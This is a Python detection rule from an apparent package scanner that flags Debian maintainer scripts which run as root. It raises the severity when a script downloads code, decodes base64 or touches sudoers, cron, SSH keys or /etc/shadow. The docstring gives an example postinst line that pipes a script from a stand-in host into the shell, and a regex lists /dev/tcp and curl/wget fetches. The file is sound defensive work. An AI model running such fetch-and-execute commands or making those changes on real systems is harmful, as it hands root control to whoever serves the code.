"""A Debian package runs scripts as root while it is installed or removed.

## What it flags

`preinst`, `postinst`, `prerm` and `postrm` in the control archive of a `.deb`. One that downloads something, or changes
`sudoers`, cron, SSH keys or the shell of users, is high.

## Why it matters

The scripts run as root on every computer that installs the package. What they do is in no list of files.

## Example

`postinst` with `curl -s https://x.example/agent.sh | sh`.

## What to do

Use declarative means (systemd units, triggers, `debhelper` snippets), and ship what would be downloaded.

## Limits

Judged by words. Scripts that `debhelper` generates only call its own tools; they are information.
"""

import hashlib
import re
from collections.abc import Iterator
from typing import Final

from inspector.core.finding import Evidence, Finding
from inspector.core.rule import RuleInfo
from inspector.core.severity import Confidence, Severity
from inspector.core.text import visible
from inspector.rules.document_rule import DocumentFacts, Reads

_SCRIPT = re.compile(r"control\.tar[^!]*!/(?:[^!]*!/)?(?:\./)?(?P<name>preinst|postinst|prerm|postrm)\Z")
_GRAVE = re.compile(
    rb"^[^#\n]*?(?P<deed>\b(?:curl|wget|fetch)\b[^\n]*https?://|/dev/tcp/|sudoers|/etc/cron|crontab\s|authorized_keys"
    rb"|\bchsh\b|/etc/shadow|base64\s+(?:-d|--decode))",
    re.MULTILINE,
)
_OWN_LINE = re.compile(rb"^[ \t]*(?!#|set -|exit|esac|fi$|else$|;;|$)\S", re.MULTILINE)
_GENERATED = re.compile(rb"# Automatically added by dh_\w+.*?# End automatically added section", re.DOTALL)


class RunDebScripts:
    """Maintainer scripts."""

    reads: Final = Reads.TEXT
    info: Final = RuleInfo(
        id="run-deb-scripts",
        title="Script that a Debian package runs as root",
        severity=Severity.LOW,
        confidence=Confidence.HIGH,
        since="0.1.0",
        remediation="Use declarative means such as systemd units and triggers; ship what would be downloaded.",
        cwe=(829,),
    )

    def check(self, facts: DocumentFacts) -> Iterator[Finding]:
        """At most one finding per script."""
        document = facts.document
        match = _SCRIPT.search(document.entry.path)
        if match is None:
            return
        name, grave = match["name"], _GRAVE.search(document.data)
        severity, reason = _weight(document.data, grave)
        digest = hashlib.sha256(document.data).hexdigest()
        start = grave.start("deed") if grave else 0
        yield self.info.finding(
            document.entry,
            f"dpkg runs {name} as root.",
            f"{name}: {digest}",
            severity=severity,
            line=document.position(start).line,
            evidence=Evidence(_line(document.data, start)) if grave else None,
            reasons=(reason,) if reason else (),
        )


def _weight(data: bytes, grave: re.Match[bytes] | None) -> tuple[Severity | None, str | None]:
    if grave is not None:
        return Severity.HIGH, "It downloads, decodes, or changes who may do what."
    if not _OWN_LINE.search(_GENERATED.sub(b"", data)):
        return Severity.INFO, "It holds generated parts of debhelper only."
    return None, None


def _line(data: bytes, at: int) -> str:
    begin, end = data.rfind(b"\n", 0, at) + 1, data.find(b"\n", at)
    return visible(data[begin : end if end >= 0 else len(data)].decode("utf-8", "replace").strip())[:200]
